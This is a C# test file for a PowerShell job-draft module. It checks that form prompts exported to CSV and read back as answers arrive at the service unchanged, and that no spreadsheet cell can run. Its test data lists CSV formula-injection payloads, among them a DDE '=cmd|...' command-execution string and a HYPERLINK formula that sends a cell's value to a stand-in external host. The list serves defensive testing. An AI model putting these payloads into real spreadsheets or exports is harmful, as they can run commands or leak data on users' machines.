using System.Text.Json;

namespace JobDraftsPS.Console.Tests;

/// <summary>Gaps out as a form, answers by somebody who also writes formulas, and in again as edits: what arrives at the service is what was written.</summary>
public class FormRoundTripTests
{
    private static readonly string[] Hostile =
    [
        "=HYPERLINK(\"https://x.example.org/?\"&A1)",
        "=cmd|'/c calc'!A1",
        "+49 30 1234",
        "-1",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\uff1d1+1",
        "'quoted'",
        "say \"yes\", or; no",
        "line 1\r\nline 2\nline 3",
        "Za\u017c\u00f3\u0142\u0107 \u65e5\u672c \ud83e\udd9c",
        "007",
        "1E5",
        "2026-05-04",
        "04/05/2026",
        "TRUE",
    ];

    private const string Script = """
        param([string] $Json)
        $texts = @(ConvertFrom-Json $Json)
        $form = "$PSScriptRoot/form.csv"
        # As the module reads a record from an answer: for users its properties cannot be set.
        function New-Record([type] $Type, [hashtable] $Values) {
            $record = $Type::new()
            foreach ($name in $Values.Keys) { $null = $Type.GetProperty($name).GetSetMethod($true).Invoke($record, @(, $Values[$name])) }
            $record
        }
        $sandbox = Start-JobDraftSandbox
        Connect-JobDraftService -Sandbox $sandbox
        $i = 0
        $gaps = foreach ($text in [string[]] $texts) {
            $i++
            $gap = New-Record ([JobDraftsPS.MissingField]) @{ Field = 'jobDescription'; Prompt = [string] $text; Type = 'string'; Example = [string] $text }
            $list = [JobDraftsPS.RecordList[JobDraftsPS.MissingField]]::new([JobDraftsPS.MissingField[]] @($gap))
            New-Record ([JobDraftsPS.JobDraft]) @{ JobId = 'ot-draft-{0:D2}' -f $i; Validation = (New-Record ([JobDraftsPS.JobValidation]) @{ MissingFields = $list }) }
        }
        $null = $gaps | Export-JobDraftForm $form

        # What a spreadsheet shows is what it got; the answers are written as the prompts stand there.
        $rows = @(Import-Csv $form)
        foreach ($row in $rows) {
            if ($row.Prompt -match '^[=+@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20-]' -or $row.Example -match '^[=+@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20-]') { "RUNS $($row.Prompt)" }
            $row.Answer = $row.Prompt
        }
        $rows | Export-Csv $form
        $null = Import-JobDraftForm $form | Update-JobDraft
        $log = [Net.Http.HttpClient]::new().GetStringAsync("$($sandbox.ControlUri)/requests").Result
        "LOG $log"
        $sandbox | Stop-JobDraftSandbox
        """;

    [Fact]
    public async Task A_form_with_hostile_cells_loses_nothing_and_runs_nothing()
    {
        var result = await ScriptRun.ToEnd(Script, [JsonSerializer.Serialize(Hostile)]);

        Assert.Equal((0, string.Empty), (result.ExitCode, result.Error));
        Assert.DoesNotContain("RUNS ", result.Output.Split("LOG ")[0], StringComparison.Ordinal);
        using var log = JsonDocument.Parse(result.Output.Split('\n').Single(line => line.StartsWith("LOG ", StringComparison.Ordinal))[4..]);
        var written = log.RootElement.GetProperty("requests").EnumerateArray()
            .Where(request => request.GetProperty("method").GetString() == "PATCH")
            .Select(request => (Target: request.GetProperty("target").GetString()!, Body: request.GetProperty("body").GetString()!))
            .OrderBy(request => request.Target, StringComparer.Ordinal)
            .Select(request => JsonDocument.Parse(request.Body).RootElement.GetProperty("jobDescription").GetString());
        Assert.Equal(Hostile, written);
    }
}
